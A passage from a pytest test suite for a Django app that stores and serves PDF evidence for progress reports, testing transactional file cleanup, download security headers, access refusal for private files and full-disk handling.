    Evidence.objects.get(pk=piece.pk).save()

    assert contents_of(settings) == [PDF]


@committing
@pytest.mark.parametrize("inner", [False, True], ids=["whole", "savepoint"])
def test_what_is_rolled_back_leaves_no_file_and_removes_none(settings, inner):
    replaced, deleted = with_file(pdf("replaced")), with_file(pdf("deleted"))
    report = replaced.report

    def fail():
        with transaction.atomic():
            with_file(pdf("new"), report=report)
            replaced.file = ContentFile(pdf("newer"), "report.pdf")
            replaced.save()
            deleted.delete()
            assert len(stored(settings)) == 4
            raise DatabaseError

    with transaction.atomic() if inner else transaction.mark_for_rollback_on_error(), pytest.raises(DatabaseError):
        fail()

    assert sorted(contents_of(settings)) == [pdf("deleted"), pdf("replaced")]
    assert Evidence.objects.count() == 2


@committing
def test_row_that_the_database_refuses_leaves_no_file(settings):
    with pytest.raises(IntegrityError):
        with_file(kind="unheard of")

    assert stored(settings) == []


@committing
def test_published_evidence_keeps_its_file_whatever_is_tried(settings):
    piece = EvidenceFactory.build(report=None, file=ContentFile(PDF, "report.pdf"))
    piece = published_report(evidence=[piece]).evidence.get()

    with pytest.raises(DatabaseError, match="is fixed"):
        piece.delete()
    piece.refresh_from_db()
    piece.file = ContentFile(pdf("another"), "report.pdf")
    with pytest.raises(DatabaseError, match="is fixed"):
        piece.save()

    assert contents_of(settings) == [PDF]


# Handing out


FRAME = {
    "Accept-Ranges": "none",
    "Content-Security-Policy": "sandbox; default-src 'none'; frame-ancestors 'none'",
    "Content-Type": "application/octet-stream",
    "Cross-Origin-Resource-Policy": "same-origin",
    "X-Content-Type-Options": "nosniff",
    "X-Frame-Options": "DENY",
}


@pytest.fixture
def public_piece(commitment):
    piece = EvidenceFactory.build(
        report=None, url="", title="Final report: What / was done?", file=ContentFile(PDF, "secret name.pdf")
    )
    return published_report(commitment, evidence=[piece]).evidence.get()


def public_address(piece, name=None):
    reference = piece.report.commitment.reference
    return reverse("commitments:evidence", args=[reference, name or piece.file_name])


def private_address(piece):
    return reverse("admin:reporting_evidence_file", args=[piece.pk])


@pytest.mark.parametrize("address", [public_address, private_address])
def test_file_is_handed_out_as_a_download_and_as_nothing_else(address, client, public_piece, ilo_focal_point):
    if address is private_address:
        client.force_login(ilo_focal_point)

    answer = client.get(address(public_piece))

    name = f"{public_piece.report.reference}-final-report-what-was-done.pdf"
    assert b"".join(answer.streaming_content) == PDF
    assert answer.headers["Content-Disposition"] == f'attachment; filename="{name}"'
    assert {header: answer.headers[header] for header in FRAME} == FRAME
    assert answer.headers["Content-Length"] == str(len(PDF))
    assert not answer.cookies


def test_public_file_asks_for_no_cookie(client, public_piece):
    answer = client.get(public_address(public_piece))

    assert "Cookie" not in answer.headers.get("Vary", "")
    assert answer.headers["Cache-Control"] == "public, max-age=0, s-maxage=1, must-revalidate"
    assert client.get(public_address(public_piece), headers={"If-None-Match": answer["ETag"]}).status_code == 304


def test_head_and_range_are_answered_sensibly(client, public_piece):
    head = client.head(public_address(public_piece))
    part = client.get(public_address(public_piece), headers={"Range": "bytes=0-3"})

    assert (head.status_code, head.headers["Content-Length"]) == (200, str(len(PDF)))
    assert b"".join(head.streaming_content) == b""
    assert (part.status_code, b"".join(part.streaming_content)) == (200, PDF)


def test_title_in_other_letters_names_the_download(client, commitment):
    piece = EvidenceFactory.build(report=None, title="Отчёт", file=ContentFile(PDF, "r.pdf"))
    piece = published_report(commitment, evidence=[piece]).evidence.get()

    disposition = client.get(public_address(piece)).headers["Content-Disposition"]

    assert disposition == f"attachment; filename*=utf-8''{piece.report.reference}-%D0%BE%D1%82%D1%87%D1%91%D1%82.pdf"


@pytest.mark.django_db
@pytest.mark.parametrize("state", ["draft", "submitted", "sent_back"])
def test_file_of_a_report_that_is_not_public_is_not_handed_out(client, state):
    piece = with_file(report=ProgressReportFactory(**{state: True}))

    assert client.get(public_address(piece)).status_code == 404


def test_private_evidence_and_guesses_are_not_handed_out(client, commitment, public_piece):
    hidden = EvidenceFactory.build(report=None, is_public=False, file=ContentFile(PDF, "r.pdf"))
    hidden = published_report(commitment, on="2014-07-31", evidence=[hidden]).evidence.get()
    elsewhere = CommitmentFactory()

    answers = [
        client.get(public_address(hidden)),
        client.get(public_address(public_piece, uuid4())),
        client.get(reverse("commitments:evidence", args=[elsewhere.reference, public_piece.file_name])),
        client.get(f"/media/{public_piece.file.name}"),
        client.get(f"/{public_piece.file.name}"),
    ]

    assert {answer.status_code for answer in answers} == {404}


@pytest.mark.parametrize("damage", ["gone", "altered", "altered in place and in time"])
def test_file_that_is_not_what_was_taken_in_is_withheld_and_noted(
    damage, client, public_piece, ilo_focal_point, caplog
):
    path = Path(public_piece.file.path)
    before = path.stat()
    b"".join(client.get(public_address(public_piece)).streaming_content)
    if damage == "gone":
        path.unlink()
    else:
        path.write_bytes(PDF.replace(b"%PDF-1.7", b"%PDF-1.6"))
    if damage == "altered in place and in time":
        os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    client.force_login(ilo_focal_point)

    answers = [client.get(address(public_piece)) for address in (public_address, private_address)]

    assert [answer.status_code for answer in answers] == [503, 503]
    assert all("no-store" in answer.headers["Cache-Control"] for answer in answers)
    assert "Final report: What / was done?" in answers[0].content.decode()
    assert len([line for line in caplog.messages if public_piece.file.name in line]) == 2


def test_file_is_read_once_while_nothing_writes_to_it(client, public_piece, monkeypatch):
    read = []
    whole = hashlib.file_digest
    monkeypatch.setattr(hashlib, "file_digest", lambda *args: read.append(1) or whole(*args))

    for _time in range(3):
        b"".join(client.get(public_address(public_piece)).streaming_content)

    assert len(read) == 1


@pytest.mark.django_db
def test_file_of_before_digests_were_noted_is_handed_out(client, administrator):
    piece = with_file()
    Evidence.objects.filter(pk=piece.pk).update(file_size=None, file_digest="")
    client.force_login(administrator)

    assert b"".join(client.get(private_address(piece)).streaming_content) == PDF


# A disk without room


def full(*_written):
    raise OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.django_db
def test_full_disk_gets_a_page_and_leaves_nothing(write, client, settings, monkeypatch, commitment):
    client.raise_request_exception = False
    monkeypatch.setattr(os, "fsync", full)

    page = write(("report.pdf", PDF))

    assert page.status_code == 507
    assert "The disk is full" in page.content.decode()
    assert (Evidence.objects.count(), ProgressReport.objects.count(), stored(settings)) == (0, 0, [])


@pytest.mark.django_db
def test_full_disk_for_uploads_gets_a_page(write, client, settings, monkeypatch):
    client.raise_request_exception = False
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 10
    monkeypatch.setattr(TemporaryFileUploadHandler, "receive_data_chunk", full)

    page = write(("report.pdf", PDF))

    assert (page.status_code, stored(settings)) == (507, [])


@pytest.mark.django_db
def test_files_and_folders_are_private_whatever_the_mask(settings):
    before = os.umask(0)
    try:
        piece = with_file()
    finally:
        os.umask(before)

    path, root = Path(piece.file.path), Path(settings.MEDIA_ROOT)
    modes = {each.relative_to(root).parts[:1]: each.stat().st_mode & 0o777 for each in (root, path.parent)}
    assert modes == {(): 0o750, ("evidence",): 0o750}
    assert path.stat().st_mode & 0o777 == 0o600


@pytest.mark.django_db
def test_write_that_fails_half_way_leaves_nothing(settings):
    class Broken(ContentFile):
        def chunks(self, chunk_size=None):
            yield b"%PDF-1.7"
            raise OSError(errno.EIO, "I/O error")

    with pytest.raises(OSError, match="I/O error"):
        storages["default"].save("evidence/x.pdf", Broken(PDF))

    assert stored(settings) == []


@pytest.mark.django_db
def test_link_has_no_file_to_download(client, administrator):
    client.force_login(administrator)

    assert client.get(private_address(EvidenceFactory())).status_code == 404


def test_kind_and_size_are_shown_and_answered(client, public_piece):
    page = client.get(public_piece.report.commitment.get_absolute_url()).content.decode()
    result = client.get("/api/v1/reports/").json()["results"][0]["evidence"][0]

    assert f"PDF, {len(PDF)}\xa0bytes" in page
    assert public_piece.file_label == f"PDF, {len(PDF)}\xa0bytes"
    assert (result["media_type"], result["size"], result["digest"]) == (
        "application/pdf",
        len(PDF),
        sha256(PDF).hexdigest(),
    )


@pytest.mark.django_db
def test_link_has_neither_kind_of_file_nor_size(client):
    published_report()

    result = client.get("/api/v1/reports/").json()["results"][0]["evidence"][0]

    assert (result["media_type"], result["size"], result["digest"]) == (None, None, None)
